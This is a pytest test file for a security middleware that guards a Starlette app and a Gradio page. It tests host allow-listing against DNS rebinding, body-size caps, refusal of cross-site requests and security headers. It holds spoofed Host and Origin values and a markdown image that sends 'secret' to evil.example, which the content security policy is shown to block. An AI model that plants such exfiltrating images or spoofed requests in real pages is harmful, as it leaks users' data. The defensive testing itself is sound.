"""The walls, in front of a small application behind a real server, and in front of Gradio in Chromium."""

from __future__ import annotations

import http.client
import json
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import JSONResponse, StreamingResponse
from starlette.routing import Route

from playground.ui.walls import Walls, bare_host, hosts_for

GO = threading.Event()


async def echo(request: Request) -> JSONResponse:
    body = await request.body()
    return JSONResponse({"size": len(body), "forwarded": request.headers.get("x-forwarded-host")})


async def forgiving(request: Request) -> JSONResponse:
    """Answers 400 whatever goes wrong in reading the body, as FastAPI does."""
    try:
        await request.body()
    except Exception:
        return JSONResponse({"detail": "parsing"}, status_code=400)
    return JSONResponse({})


async def stream(_request: Request) -> StreamingResponse:
    async def parts() -> AsyncIterator[bytes]:
        import asyncio

        yield b"data: first\n\n"
        # The second part is not made before the test has read the first.
        await asyncio.to_thread(GO.wait, 20)
        yield b"data: second\n\n"

    return StreamingResponse(parts(), media_type="text/event-stream")


@pytest.fixture
def site(serve: Callable[[Any], str]) -> str:
    """`127.0.0.1:port` of an application behind walls of 1 MB, 3 MB for uploads."""
    routes = [
        Route("/", echo, methods=["GET", "POST"]),
        Route("/gradio_api/upload", echo, methods=["POST"]),
        Route("/forgiving", forgiving, methods=["POST"]),
        Route("/stream", stream),
    ]
    hosts = hosts_for("127.0.0.1", ["play.example.org", "*.wild.example"])
    walls = Middleware(Walls, allowed_hosts=hosts, max_body=1_000_000, max_upload=3_000_000)
    return urlsplit(serve(Starlette(routes=routes, middleware=[walls]))).netloc


def ask(
    site: str, method: str = "GET", path: str = "/", *, body: Any = None, chunked: bool = False, **headers: str
) -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection(site, timeout=30)
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request(method, path, body=body, headers=named, encode_chunked=chunked)
    answer = connection.getresponse()
    content = answer.read()
    connection.close()
    return answer.status, {k.lower(): v for k, v in answer.getheaders()}, content


def chunks(size: int) -> Iterator[bytes]:
    for _ in range(size // 100_000):
        yield b"x" * 100_000


@pytest.mark.parametrize(
    "host",
    [
        "localhost",
        "LOCALHOST:7860",
        "127.0.0.1:1",
        "[::1]:7860",
        "[::1]",
        "play.example.org",
        "a.wild.example",
        "localhost.",
    ],
)
def test_hosts_that_are_this_page_come_in(site: str, host: str) -> None:
    assert ask(site, Host=host)[0] == 200


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "wild.example",
        "evilwild.example",
        "192.168.0.9",
        "x.gradio.live",
        "",
        "127.0.0.1@evil.example",
        "[::1",
        "[::1].evil.example",
        "*.wild.example.evil",
    ],
)
def test_other_hosts_are_refused_so_that_dns_rebinding_gets_nothing(site: str, host: str) -> None:
    status, _, body = ask(site, Host=host)
    assert status == 421
    assert "PLAYGROUND_ALLOWED_HOSTS" in json.loads(body)["detail"]


def test_the_name_of_a_page_bound_to_all_addresses_is_any_address_but_no_other_name() -> None:
    walls = Walls(echo, allowed_hosts=hosts_for("0.0.0.0"))  # type: ignore[arg-type]
    assert walls.allows("192.168.0.9:7860")
    assert walls.allows("[fe80::1]:7860")
    assert not walls.allows("evil.example")


def test_share_links_come_in_only_while_sharing() -> None:
    assert "*.gradio.live" in hosts_for("127.0.0.1", share=True)
    assert "*.gradio.live" not in hosts_for("127.0.0.1")


@pytest.mark.parametrize(
    ("value", "name"),
    [
        ("Host.Example:80", "host.example"),
        ("[::1]:80", "::1"),
        ("::1", "::1"),
        ("host.", "host"),
        ("*.example.org", "*.example.org"),
        ("", ""),
    ],
)
def test_a_host_is_bared_of_port_and_brackets(value: str, name: str) -> None:
    assert bare_host(value) == name


@pytest.mark.parametrize(("size", "status"), [(1_000_000, 200), (1_000_001, 413), (14_000_000, 413)])
def test_a_body_is_capped(site: str, size: int, status: int) -> None:
    assert ask(site, "POST", body=b"x" * size)[0] == status


@pytest.mark.parametrize("path", ["/", "/forgiving"])
def test_a_body_that_does_not_say_its_length_is_counted(site: str, path: str) -> None:
    assert ask(site, "POST", path, body=chunks(1_000_000), chunked=True, Transfer_Encoding="chunked")[0] == 200
    assert ask(site, "POST", path, body=chunks(2_000_000), chunked=True, Transfer_Encoding="chunked")[0] == 413


def test_a_hundred_megabytes_of_json_are_refused_in_words(serve: Callable[[Any], str]) -> None:
    walls = Middleware(Walls, allowed_hosts=hosts_for("127.0.0.1"))
    site = urlsplit(serve(Starlette(routes=[Route("/", echo, methods=["POST"])], middleware=[walls]))).netloc
    assert ask(site, "POST", body=b'"' + b"x" * 10_000_000 + b'"')[0] == 200
    status, headers, body = ask(site, "POST", body=b'"' + b"x" * 100_000_000 + b'"', Content_Type="application/json")
    assert status == 413
    assert json.loads(body) == {"detail": "The request is larger than 12 MB."}
    assert headers["connection"] == "close"


def test_files_have_a_cap_of_their_own(site: str) -> None:
    assert ask(site, "POST", "/gradio_api/upload", body=b"x" * 3_000_000)[0] == 200
    assert ask(site, "POST", "/gradio_api/upload", body=b"x" * 3_000_001)[0] == 413


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH"])
@pytest.mark.parametrize("site_header", ["cross-site", "same-site"])
def test_what_another_site_sends_is_refused(site: str, method: str, site_header: str) -> None:
    for mode in ("navigate", "cors", "no-cors"):
        assert ask(site, method, Sec_Fetch_Site=site_header, Sec_Fetch_Mode=mode)[0] == 403


def test_another_sites_multipart_upload_is_refused(site: str) -> None:
    status, _, _ = ask(
        site,
        "POST",
        "/gradio_api/upload",
        body=b'--b\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\nx\r\n--b--\r\n',
        Content_Type="multipart/form-data; boundary=b",
        Sec_Fetch_Site="cross-site",
        Sec_Fetch_Mode="no-cors",
        Origin="https://evil.example",
    )
    assert status == 403


def test_a_link_from_another_site_opens_the_page_but_a_script_from_there_reads_nothing(site: str) -> None:
    assert ask(site, Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="navigate")[0] == 200
    assert ask(site, Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="no-cors")[0] == 403
    assert ask(site, Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="cors")[0] == 403


@pytest.mark.parametrize("site_header", ["same-origin", "none"])
def test_the_page_itself_and_typed_addresses_come_in(site: str, site_header: str) -> None:
    assert ask(site, "POST", Sec_Fetch_Site=site_header, Sec_Fetch_Mode="cors")[0] == 200


def test_programs_send_no_such_header_and_come_in(site: str) -> None:
    assert ask(site, "POST")[0] == 200


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://localhost:9999", "http://127.0.0.1:9999"])
def test_without_sec_fetch_site_the_origin_decides(site: str, origin: str) -> None:
    assert ask(site, "POST", Origin=origin)[0] == 403
    assert ask(site, "POST", Origin=f"http://{site}")[0] == 200


def test_behind_a_proxy_the_origin_may_be_the_host_that_it_forwards(site: str) -> None:
    origin = "https://play.example.org"
    assert ask(site, "POST", Origin=origin, X_Forwarded_Host="play.example.org")[0] == 200
    assert ask(site, "POST", Origin="https://evil.example", X_Forwarded_Host="evil.example")[0] == 403


def test_a_forwarded_host_that_is_not_allowed_never_reaches_the_page(site: str) -> None:
    assert json.loads(ask(site, X_Forwarded_Host="evil.example")[2])["forwarded"] is None
    assert json.loads(ask(site, X_Forwarded_Host="play.example.org, evil.example")[2])["forwarded"] is None
    assert json.loads(ask(site, X_Forwarded_Host="play.example.org")[2])["forwarded"] == "play.example.org"


@pytest.mark.parametrize(("headers", "status"), [({}, 200), ({"Host": "evil.example"}, 421)])
def test_every_answer_carries_the_headers(site: str, headers: dict[str, str], status: int) -> None:
    found, answer, _ = ask(site, **headers)
    assert found == status
    assert "img-src 'self' data: blob:;" in answer["content-security-policy"]
    assert "frame-ancestors 'self'" in answer["content-security-policy"]
    assert answer["x-content-type-options"] == "nosniff"
    assert answer["referrer-policy"] == "same-origin"


def test_a_streamed_answer_passes_as_it_comes(site: str) -> None:
    GO.clear()
    connection = http.client.HTTPConnection(site, timeout=30)
    connection.request("GET", "/stream")
    answer = connection.getresponse()
    assert answer.read1(100) == b"data: first\n\n"
    GO.set()
    assert answer.read() == b"data: second\n\n"
    connection.close()


async def test_a_websocket_from_elsewhere_is_closed_before_it_opens() -> None:
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)

    async def app(*_: Any) -> None:
        sent.append("app")

    walls = Walls(app, allowed_hosts=["localhost"])
    scope = {"type": "websocket", "path": "/", "headers": [(b"host", b"evil.example")]}
    await walls(scope, send, send)  # type: ignore[arg-type]
    assert sent == [{"type": "websocket.close", "code": 1008}]
    foreign = [(b"host", b"localhost"), (b"origin", b"https://evil.example")]
    await walls({"type": "websocket", "path": "/", "headers": foreign}, send, send)  # type: ignore[arg-type]
    assert sent[1:] == [{"type": "websocket.close", "code": 1008}]


async def test_lifespan_passes() -> None:
    seen: list[str] = []

    async def app(scope: Any, *_: Any) -> None:
        seen.append(scope["type"])

    await Walls(app, allowed_hosts=[])({"type": "lifespan"}, None, None)  # type: ignore[arg-type]
    assert seen == ["lifespan"]


SCRIPT = """
element.querySelector('button').addEventListener('click', () => { props.value = {n: 1}; trigger('input') })
"""


def build() -> Any:
    """A page with the components that ask most of a policy: streaming, a component of our own, files, code."""
    import gradio as gr

    def stream_out(text: str) -> Iterator[str]:
        for end in range(1, len(text) + 1):
            yield text[:end]

    with gr.Blocks() as demo:
        with gr.Sidebar(position="right"):
            gr.Dropdown(["a", "b"], label="Model")
            gr.Slider(0, 2, label="Temperature")
        prompt, answer = gr.Textbox(elem_id="prompt"), gr.Textbox(elem_id="answer")
        gr.Button("Submit", elem_id="submit").click(stream_out, prompt, answer)
        own = gr.HTML(value={"n": 0}, html_template="<button id='own'>+</button>", js_on_load=SCRIPT)
        heard, file, name = gr.Textbox(elem_id="heard"), gr.File(elem_id="file"), gr.Textbox(elem_id="name")
        own.input(lambda value: str(value["n"]), own, heard)
        file.upload(lambda f: f.name.rpartition("/")[2], file, name)
        gr.Code("print(1)", language="python")
        gr.Markdown("![secret](https://evil.example/?q=secret)")
    return demo


@pytest.fixture
def gradio_site(launch: Callable[..., str]) -> str:
    """A Gradio page behind the walls, passed as the app passes them."""
    walls = Middleware(Walls, allowed_hosts=hosts_for("127.0.0.1"))
    return launch(build, app_kwargs={"middleware": [walls]}, run_history=False)


@pytest.mark.browser
async def test_gradio_works_behind_the_walls_and_asks_no_other_host(gradio_site: str, page: Any) -> None:
    errors: list[str] = []
    foreign: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on(
        "requestfinished",
        lambda r: None if r.url.startswith((gradio_site, "data:", "blob:")) else foreign.append(r.url),
    )
    await page.goto(gradio_site)
    await page.fill("#prompt textarea", "hola")
    await page.click("#submit")
    await page.wait_for_function("document.querySelector('#answer textarea').value === 'hola'")
    await page.click("#own")
    await page.wait_for_function("document.querySelector('#heard textarea').value === '1'")
    await page.set_input_files("#file input[type=file]", {"name": "a.csv", "mimeType": "text/csv", "buffer": b"a,b\n"})
    await page.wait_for_function("document.querySelector('#name textarea').value === 'a.csv'")
    assert foreign == []
    # The one thing refused is the image by which an answer could carry text away.
    refused = [text for text in errors if "Content Security Policy" in text]
    assert refused
    assert all("evil.example" in text for text in refused)
    assert [text for text in errors if "evil.example" not in text] == []


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_gradio_behind_the_walls_refuses_other_hosts_large_bodies_and_other_sites(
    gradio_site: str, method: str
) -> None:
    site = urlsplit(gradio_site).netloc
    assert ask(site, method, "/gradio_api/queue/join", Host="evil.example")[0] == 421
    if method == "POST":
        assert ask(site, method, "/gradio_api/queue/join", body=b"x" * 13_000_000)[0] == 413
        assert ask(site, method, "/gradio_api/queue/join", body=b"{}", Sec_Fetch_Site="cross-site")[0] == 403
